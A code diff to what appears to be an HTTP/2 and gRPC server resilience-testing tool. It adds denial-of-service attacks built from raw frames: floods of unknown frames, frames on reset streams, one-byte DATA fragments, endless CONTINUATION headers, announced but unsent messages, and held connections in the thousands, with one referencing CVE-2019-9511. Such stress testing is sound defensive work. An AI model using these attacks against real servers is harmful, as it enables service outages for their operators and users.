@@ -24,14 +24,14 @@ class Attack:
     idle: int
     slow: int            # connections that take their time
     slow_seconds: float
-    connections: int     # with a window of one byte
+    connections: int     # that ask for, or send, as much as they can
     seconds: float       # after which an attack gives up
 
 
-QUICK = Attack(resets=20000, floods=50000, continuations=20000, header_mib=(1, 4), idle=1000, slow=100, slow_seconds=1.5,
-               connections=4, seconds=10)
+QUICK = Attack(resets=20000, floods=50000, continuations=20000, header_mib=(1, 4), idle=2000, slow=100, slow_seconds=1.5,
+               connections=50, seconds=10)
 WHOLE = Attack(resets=200000, floods=500000, continuations=200000, header_mib=(1, 2, 4, 8, 16), idle=10000, slow=500,
-               slow_seconds=15, connections=16, seconds=60)
+               slow_seconds=15, connections=1000, seconds=60)
 
 
 def repeat(port, sizes, wanted, batches, reads=True):
@@ -109,19 +109,61 @@ def settings_flood(port, sizes):
     return "%d SETTINGS over %d connections" % repeat(port, sizes, sizes.floods, lambda: itertools.repeat(batch), reads=False)
 
 
+def unknown_flood(port, sizes):
+    """Frames of types that nobody knows, which a server has to pass over."""
+    batch = frame(0xfa, payload=b"?") * BATCH
+    return "%d frames over %d connections" % repeat(port, sizes, sizes.floods, lambda: itertools.repeat(batch), reads=False)
+
+
+def dead_streams(port, sizes):
+    """Headers, data and windows for streams that are over, which a server has to pass over, too."""
+    block = request_headers(b"EmptyCall")
+    rest = frame(DATA, 0, 1, b"?") + frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) + frame(HEADERS, END_HEADERS, 1, block)
+
+    def batches():
+        yield frame(HEADERS, END_HEADERS, 1, block) + frame(RST_STREAM, 0, 1, struct.pack(">I", CANCEL))
+        yield from itertools.repeat(rest * (BATCH // 3))
+
+    return "%d frames over %d connections" % repeat(port, sizes, sizes.floods, batches, reads=False)
+
+
+def crumbs(port, sizes):
+    """A message in frames of one byte."""
+    block = request_headers(b"UnaryCall")
+    byte = frame(DATA, 0, 1, b"\0") * BATCH
+
+    def batches():
+        yield frame(HEADERS, END_HEADERS, 1, block) + frame(DATA, 0, 1, struct.pack(">BI", 0, 4 * 1024 * 1024 - 16))
+        yield from itertools.repeat(byte)
+
+    return "%d DATA over %d connections" % repeat(port, sizes, sizes.floods, batches, reads=False)
+
+
 def open_many(port, count, first_bytes=b""):
-    """As many connections as there may be, one beside the other."""
+    """As many connections as there may be, one beside the other; those that are gone at once are not among them."""
     opened = []
     for _ in range(count):
         try:
             one = Connection(port, STRANGER, seconds=2)
-            if first_bytes:
-                one.send(first_bytes)
-            opened.append(one)
         except Gone:
             if len(opened) < count // 2:
                 time.sleep(0.001)
+            continue
+        try:
+            one.send(first_bytes)
+            opened.append(one)
+        except Gone:
+            one.close()
     return opened
+
+
+def hold(port, sizes, what, first_bytes):
+    """Many connections that send something and then wait."""
+    opened = open_many(port, sizes.connections, first_bytes)
+    time.sleep(sizes.slow_seconds)
+    alive = sum(one.drain() for one in opened)
+    close_all(opened)
+    return f"{what} on {sizes.connections} connections, {alive} of them held"
 
 
 def close_all(connections):
@@ -142,13 +184,7 @@ def tiny_windows(port, sizes):
     """CVE-2019-9511: large answers that are asked for and then taken one byte at a time."""
     large = b"\x10" + b"\x80\x80\x10"  # SimpleRequest.response_size: 256 KiB
     calls = b"".join(call(stream, b"UnaryCall", large) for stream in range(1, 201, 2))
-    strangers = []
-    for _ in range(sizes.connections):
-        try:
-            strangers.append(Connection(port, STRANGER, setting(INITIAL_WINDOW_SIZE, 1)))
-            strangers[-1].send(calls)
-        except Gone:
-            pass
+    strangers = open_many(port, sizes.connections, frame(SETTINGS, payload=setting(INITIAL_WINDOW_SIZE, 1)) + calls)
     end = time.monotonic() + sizes.slow_seconds * 2
     taken = 0
     while time.monotonic() < end:
@@ -214,15 +250,46 @@ def slow_bodies(port, sizes):
     return drip(port, sizes, block + frame(DATA, 0, 1, announced), byte * 500)
 
 
+def begun_calls(rest):
+    """A hundred calls whose headers are followed by what `rest` makes of the stream."""
+    block = request_headers(b"UnaryCall")
+    return b"".join(frame(HEADERS, END_HEADERS, stream, block) + rest(stream) for stream in range(1, 201, 2))
+
+
 def announced_messages(port, sizes):
     """Large messages that are announced on every stream of many connections, and never sent."""
     announced = struct.pack(">BI", 0, 4 * 1024 * 1024 - 16)
-    calls = b"".join(frame(HEADERS, END_HEADERS, stream, request_headers(b"UnaryCall")) + frame(DATA, 0, stream, announced)
-                     for stream in range(1, 201, 2))
-    opened = open_many(port, sizes.connections * 4, calls)
-    time.sleep(sizes.slow_seconds)
-    close_all(opened)
-    return f"{100 * len(opened)} messages of 4 MiB announced"
+    return hold(port, sizes, "100 messages of 4 MiB announced", begun_calls(lambda stream: frame(DATA, 0, stream, announced)))
+
+
+def unfinished_messages(port, sizes):
+    """Messages that are sent but for their end, as much of them as the windows let through."""
+    begun = struct.pack(">BI", 0, 4 * 1024 * 1024 - 16) + bytes(8000)
+    return hold(port, sizes, "100 messages begun", begun_calls(lambda stream: frame(DATA, 0, stream, begun)))
+
+
+def kept_headers(port, sizes):
+    """Calls with as much metadata as is taken, whose messages never come; behind them a block of headers that does not end."""
+    block = request_headers(b"UnaryCall", literal(b"x-kept", b"a" * 15000))
+    open_end = request_headers(b"UnaryCall", literal(b"x-open", b"a" * 60000))
+    pieces = [open_end[i:i + MAX_FRAME] for i in range(0, 3 * MAX_FRAME, MAX_FRAME)]
+    return hold(port, sizes, "50 calls of 15 KiB of headers",
+                b"".join(frame(HEADERS, END_HEADERS, stream, block) for stream in range(1, 101, 2)) +
+                frame(HEADERS, 0, 101, pieces[0]) + b"".join(frame(CONTINUATION, 0, 101, piece) for piece in pieces[1:]))
+
+
+def untaken_replies(port, sizes):
+    """Large answers to a peer whose windows are wide open, and who does not read."""
+    large = b"\x10" + b"\x80\x80\x10"
+    wide = frame(SETTINGS, payload=setting(INITIAL_WINDOW_SIZE, (1 << 31) - 1)) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30))
+    return hold(port, sizes, "100 answers of 256 KiB asked for",
+                wide + b"".join(call(stream, b"UnaryCall", large) for stream in range(1, 201, 2)))
+
+
+def open_streams(port, sizes):
+    """Calls of a method that goes on as long as the client wants."""
+    block = request_headers(b"FullDuplexCall")
+    return hold(port, sizes, "100 open streams", b"".join(frame(HEADERS, END_HEADERS, stream, block) for stream in range(1, 201, 2)))
 
 
 def garbage(port, sizes):
@@ -258,12 +325,19 @@ ATTACKS = {
     "CONTINUATION without end": endless_continuation,
     "PING flood": ping_flood,
     "SETTINGS flood": settings_flood,
+    "flood of unknown frames": unknown_flood,
+    "frames on dead streams": dead_streams,
+    "messages in crumbs": crumbs,
     "idle connections": idle_connections,
     "one-byte windows": tiny_windows,
     "half-open connections": half_open,
     "slow headers": slow_headers,
     "slow bodies": slow_bodies,
     "announced messages": announced_messages,
+    "unfinished messages": unfinished_messages,
+    "kept headers": kept_headers,
+    "untaken replies": untaken_replies,
+    "open streams": open_streams,
     "garbage": garbage,
     "descriptor exhaustion": descriptor_exhaustion,
 }
